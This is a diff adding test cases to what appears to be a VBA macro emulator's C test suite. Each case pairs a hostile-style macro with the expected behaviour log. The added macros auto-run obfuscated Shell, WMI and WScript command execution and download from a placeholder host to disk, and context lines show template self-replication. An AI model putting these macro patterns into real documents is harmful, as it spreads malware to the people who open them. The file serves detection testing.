@@ -67,6 +67,21 @@ static const habit habits[] = {
      "s = MacroContainer.VBProject.VBComponents.Item(1).CodeModule.Lines(i, 1)\nMsgBox s\nNext\nWith NormalTemplate.VBProject.VBComponents(1)\n"
      "If .CodeModule.CountOfLines = 0 And Not .CodeModule.Find(\"mark\", 1, 1, 9, 9) Then .CodeModule.InsertLines 1, s\nEnd With\nEnd Sub\n",
      "message: Private Sub Document_Close()\nmessage: 'mark\nreplicate: Normal template.CodeModule\n"},
+    {"what is asked of an object by an unknown name still tells the act",
+     MODULE("Form1") "Attribute VB_Base = \"0{5E1A}{5E1B}\"\nAttribute VB_PredeclaredId = True\n" MODULE("M")
+     "Sub AutoOpen()\nSet s = CreateObject(Form1.kind.Caption)\ns.Run \"one.invalid\", 0\nx = GetObject(Form1.path).Create#(\"two.invalid\", Null, Null, pid)\n"
+     "CallByName CreateObject(\"WScript.Shell\"), Form1.verb, VbMethod, \"three.invalid\"\nGetObject(\"winmgmts:Win32_\" & Form1.rest).Create \"four.invalid\"\n"
+     "Set f = CreateObject(\"Scripting.\" & Form1.more)\nf.Open \"GET\", \"http://a.example/\", False\nf.SaveToFile \"C:\\a.invalid\"\nEnd Sub\n",
+     "run: one.invalid\nrun: two.invalid\nrun: three.invalid\nrun: four.invalid\ndownload: http://a.example/\nwrite: C:\\a.invalid\ndownload: http://a.example/\n"},
+    {"an object that is only not modelled acts not",
+     "Sub AutoOpen()\nSet o = CreateObject(\"No.Such.Object\")\no.Run \"nine.invalid\"\nApplication.Strange.Create \"ten.invalid\"\nEnd Sub\n", ""},
+    {"a loop whose only way out is not known ends",
+     "Sub AutoOpen()\nDim a(50)\nDo\np = InStr(ActiveDocument.Strange, \";\")\nIf p = 0 Then a(n) = 1: GoTo out\nn = n + 1\nLoop\nout:\nShell \"eleven.invalid\"\nEnd Sub\n",
+     "run: eleven.invalid\n"},
+    {"the suffix of a LongLong", "Sub AutoOpen()\nx = 2\nShell^ \"twelve\" + \".invalid\", x ^ 2\nEnd Sub\n", "run: twelve.invalid\n"},
+    {"Word's document name even where an event is Excel's",
+     MODULE("ThisDocument") "Attribute VB_Base = \"1Normal.ThisDocument\"\nAttribute VB_PredeclaredId = True\nSub Workbook_Open()\nMsgBox Right(ActiveDocument.Name, 1)\nEnd Sub\n",
+     "message: c\n"},
     {"own code by way of a file",
      MODULE("ThisDocument") "Attribute VB_Base = \"1Normal.ThisDocument\"\nSub AutoOpen()\nActiveDocument.VBProject.VBComponents(1).Export \"C:\\c.tmp\"\n"
      "NormalTemplate.VBProject.VBComponents(1).Name = \"host\"\nIf NormalTemplate.VBProject.VBComponents(1).Name = \"host\" Then "
